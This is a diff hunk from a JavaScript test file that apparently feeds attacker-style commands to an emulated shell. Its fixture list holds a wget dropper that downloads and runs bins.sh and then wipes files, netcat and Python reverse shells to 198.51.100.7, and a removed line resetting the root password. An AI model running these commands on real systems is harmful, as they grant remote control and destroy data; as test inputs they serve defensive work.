@@ -62,7 +62,6 @@ describe('the shell model', () => {
     'cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *',
     'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f',
     `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0)'`,
-    'echo "root:Ab12Cd34" | chpasswd | bash',
     '/bin/busybox KAMBA',
   ];
   const jobs = [
